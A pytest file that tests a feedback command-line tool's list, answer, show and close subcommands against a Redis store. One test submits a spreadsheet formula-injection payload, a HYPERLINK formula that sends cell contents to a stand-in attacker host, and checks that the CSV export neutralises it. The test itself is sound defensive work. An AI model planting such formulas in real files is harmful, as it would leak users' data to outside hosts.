"""`module-registry feedback`, on a store that REDIS_URL names."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest
from redis import Redis
from support import OPERATOR

from service.accounts import store as accounts
from service.accounts.sessions import Caller
from service.accounts.store import Account
from service.feedback import store
from service.feedback.model import Thread
from service.registry.loading import load

REGISTRY = """
modules:
  - { slug: sms, category: outreach, label: { fr: SMS, en: Texts }, is_on_demand: true, formerly: [texts] }
  - { slug: crm, category: tools, label: { fr: CRM, en: CRM }, is_on_demand: true }
"""

Feedback = Callable[..., subprocess.CompletedProcess[str]]


@pytest.fixture
def feedback(command: Feedback) -> Feedback:
    """Run `module-registry feedback ARGUMENTS`."""
    return partial(command, "feedback")


@pytest.fixture
def threads(redis: Redis, file: Path) -> list[Thread]:
    """One of Alice's, and one of Zoe's, which is the later one."""
    registry = load(file)
    threads = []
    for account_id, module in (("alice", "sms"), ("zoe", "crm")):
        accounts.add(redis, Account(account_id, "active", name=account_id.title()), by=OPERATOR)
        threads.append(store.open_thread(redis, Caller(account_id), module, f"{module}, please\nsoon", registry)[0])
    return threads


def test_list(feedback: Feedback, threads: list[Thread]) -> None:
    alices, zoes = threads
    header, newest, oldest = feedback("list").stdout.splitlines()
    assert header.split() == ["id", "status", "unread", "module", "account", "name", "updated", "last", "message"]
    assert newest.split()[:6] == [zoes.id, "open", "yes", "crm", "zoe", "Zoe"]
    assert newest.endswith("crm, please soon") and oldest.startswith(alices.id)
    listed = json.loads(feedback("list", "--format", "json", "--module", "texts").stdout)
    assert [thread["last_message"]["text"] for thread in listed] == ["sms, please\nsoon"]
    nothing = feedback("list", "--status", "declined")
    assert (nothing.returncode, nothing.stdout, nothing.stderr) == (0, "", "no requests\n")
    unknown = feedback("list", "--module", "smss")
    assert (unknown.returncode, unknown.stderr) == (1, "smss is no module; did you mean sms?\n")
    feedback("answer", alices.id, '=HYPERLINK("https://evil.example/"&A1)')
    assert f"{alices.id},answered,,sms,alice,Alice," in (csv := feedback("list", "--format", "csv").stdout)
    assert "'=HYPERLINK" in csv, "which no spreadsheet runs"


def test_answer_show_and_close(feedback: Feedback, threads: list[Thread]) -> None:
    thread = threads[0]
    assert feedback("answer", thread.id, "Why?").stdout == f"answered {thread.id} (answered)\n"
    assert feedback("answer", thread.id, "-", stdin="Tell us\nmore\n").returncode == 0
    first, *lines = feedback("show", thread.id).stdout.splitlines()
    assert first == f"{thread.id}  sms  answered  alice (Alice)"
    said = ["sms, please", "soon", "Why?", "Tell us", "more"]
    assert [line for line in lines if line.startswith("    ")] == [f"    {text}" for text in said]
    assert [line.partition("UTC  ")[2] for line in lines if line.endswith(":")] == ["Alice:", "admin:", "admin:"]
    shown = json.loads(feedback("show", thread.id, "--format", "json").stdout)
    assert [message["author"] for message in shown["messages"]] == ["member", "admin", "admin"]
    for status in ("activated", "declined", "open", "answered"):
        assert feedback("close", thread.id, "--as", status).stdout == f"{thread.id} is {status}\n"


@pytest.mark.parametrize("message", ["", "x" * 2001, b"\xff"])
def test_a_message_that_cannot_be_said(feedback: Feedback, threads: list[Thread], message: str | bytes) -> None:
    done = feedback("answer", threads[0].id, "-", stdin=message)
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.startswith("message ")
